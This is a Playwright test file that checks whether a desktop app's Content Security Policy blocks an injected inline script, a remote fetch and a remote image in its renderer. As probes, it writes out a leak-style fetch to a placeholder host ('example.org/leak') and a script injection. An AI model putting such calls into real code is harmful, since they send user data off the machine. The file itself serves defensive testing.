/**
 * The renderer's Content Security Policy is in force in the browser host (the same policy Electron sets):
 * an injected inline script does not run, a remote URL is refused before any request leaves the page,
 * and window.open is not allowed to navigate anywhere remote.
 */
import { test, expect } from '@playwright/test';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { launchHost, type RunningHost } from './host';

const repo = resolve(dirname(fileURLToPath(import.meta.url)), '..');
let host: RunningHost;
let tmp: string;

test.beforeAll(async () => {
  tmp = mkdtempSync(join(tmpdir(), 'radscore-csp-'));
  host = await launchHost(repo, join(tmp, 'csp.sqlite'));
});

test.afterAll(async () => {
  await host?.close();
  if (tmp) rmSync(tmp, { recursive: true, force: true });
});

test('CSP refuses inline scripts and remote URLs; no request leaves 127.0.0.1', async ({ page }) => {
  // Chromium announces a request before CSP blocks it, so what counts is whether any off-host request
  // completed, and that every attempted one failed as blocked.
  const offHost = (url: string) =>
    !url.startsWith(host.origin) && !url.startsWith('data:') && !url.startsWith('blob:');
  const completedOffHost: string[] = [];
  const failedOffHost: string[] = [];
  page.on('requestfinished', (r) => {
    if (offHost(r.url())) completedOffHost.push(r.url());
  });
  page.on('requestfailed', (r) => {
    if (offHost(r.url())) failedOffHost.push(`${r.url()} ${r.failure()?.errorText ?? ''}`);
  });
  const response = await page.goto(host.url);
  const csp = response?.headers()['content-security-policy'] ?? '';
  expect(csp).toContain("default-src 'none'");
  expect(csp).toMatch(/script-src 'self'(;|$)/);
  expect(csp).toMatch(/connect-src 'self'(;|$)/);
  await expect(page.getByText('Radscore Studio').first()).toBeVisible();

  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      violations.push(`${e.violatedDirective} ${e.blockedURI}`),
    );
    // 1. An injected inline script must not run.
    const w = window as unknown as { __inlineRan?: boolean };
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true;';
    document.body.appendChild(script);
    // 2. A remote fetch must be refused by connect-src before it reaches the network.
    let fetchError = '';
    try {
      await fetch('https://example.org/leak?x=1');
    } catch (err) {
      fetchError = String(err);
    }
    // 3. A remote image must be refused by img-src.
    const img = document.createElement('img');
    img.src = 'https://example.org/pixel.png';
    document.body.appendChild(img);
    await new Promise((r) => setTimeout(r, 300));
    return { inlineRan: w.__inlineRan === true, fetchError, violations };
  });
  expect(outcome.inlineRan).toBe(false);
  expect(outcome.fetchError).toMatch(/fetch/i);
  expect(outcome.violations.some((v) => v.startsWith('script-src'))).toBe(true);
  expect(outcome.violations.some((v) => v.startsWith('connect-src') && v.includes('example.org'))).toBe(true);
  expect(outcome.violations.some((v) => v.startsWith('img-src') && v.includes('example.org'))).toBe(true);
  expect(completedOffHost).toEqual([]);
  for (const f of failedOffHost) expect(f).toMatch(/ (csp|net::ERR_BLOCKED_BY_CSP)$/);
});
